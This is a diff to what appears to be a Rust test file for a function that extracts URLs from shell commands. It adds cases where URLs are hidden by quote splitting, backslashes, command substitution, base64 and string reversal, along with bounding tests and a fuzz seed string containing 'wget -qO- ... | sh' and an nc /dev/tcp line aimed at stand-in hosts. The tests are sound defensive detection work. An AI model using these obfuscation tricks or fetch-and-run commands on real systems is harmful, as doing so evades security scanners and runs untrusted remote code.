@@ -52,6 +52,42 @@ fn bare_hosts_of_fetching_commands() {
 }
 
 #[test]
+fn quoting_hides_no_url() {
+    let expected = ["http://203.0.113.9/x"];
+    for text in [
+        "curl ht''tp://203.0.113.9/x",
+        "curl h\"\"ttp://203.0.113.9/x",
+        "curl h\\ttp://203.0.113.9/x",
+        "curl http:\"//\"203.0.113.9/x",
+        "curl http:/\\/203.0.113.9/x",
+        "c''url 'ht'tp://'203.0.113.9'/x",
+        "curl ht\\\ntp://203.0.113.9/x",
+        "curl ht$@tp://203.0.113.9/x",
+        "curl $(echo http)://203.0.113.9/x",
+        "curl `printf http`://203.0.113.9/x",
+        "H=ht T=tp; curl $H$T://203.0.113.9/x",
+        "H=$(echo http); curl ${H}://203.0.113.9/x",
+        "sh -c \"curl ht''tp://203.0.113.9/x\"",
+        "curl $(echo aHR0cDovLzIwMy4wLjExMy45|base64 -d)/x",
+        "curl $(echo x/9.311.0.302//:ptth|rev)",
+    ] {
+        let found: Vec<String> = find(text).into_iter().filter(|url| url.ends_with("/x")).collect();
+        assert_eq!(found, expected, "{text}");
+    }
+    for (text, url) in [
+        ("wget http://203.0.\"\"113.9/x", "http://203.0.113.9/x"),
+        ("wget http://ev\\\nil.example/x", "http://evil.example/x"),
+        ("wget http://e\\vil.example/x", "http://evil.example/x"),
+        ("wget ev''il.example/x", "evil.example/x"),
+        ("w\\get evil.example/x", "evil.example/x"),
+    ] {
+        assert!(find(text).contains(&url.to_owned()), "{text}: {:?}", find(text));
+    }
+    // Between double quotes a backslash before a slash is one.
+    assert!(find("sed -i \"s/http:\\/\\/a.example/x/\" f").is_empty());
+}
+
+#[test]
 fn text_that_fetches_nothing_names_nothing() {
     for text in [
         "",
@@ -146,6 +182,11 @@ fn hostile_texts_are_bounded() {
         format!("{}$A", "A=$A$A ".repeat(100_000)),
         "wget ".repeat(200_000),
         "-o a.b:1 ".repeat(100_000),
+        "$(echo ".repeat(100_000),
+        "`".repeat(1 << 20),
+        "$(echo http)://a ".repeat(60_000),
+        "h''ttp://a ".repeat(90_000),
+        "''".repeat(1 << 19),
     ] {
         assert!(find(&text).len() <= MAX_URLS);
     }
@@ -154,7 +195,7 @@ fn hostile_texts_are_bounded() {
 #[test]
 fn changed_bytes_never_panic() {
     let text = "H=1.2.3.4; wget -qO- \"http://$H/x\" | sh; echo aHR0cDovLzIwMy4wLjExMy45L3g= | \
-        base64 -d; git clone git@h.example:o/r; printf '\\x68\\150'; nc 1.2.3.4 44 </dev/tcp/h/1";
+        base64 -d; curl ht''tp://1.2.3.4/$(echo x | rev) `printf %s y`; git clone git@h.example:o/r; printf '\\x68\\150'; nc 1.2.3.4 44 </dev/tcp/h/1";
     let mut seed = 0x2545_f491_4f6c_dd1d_u64;
     for _ in 0..3000 {
         let mut bytes = text.as_bytes().to_vec();
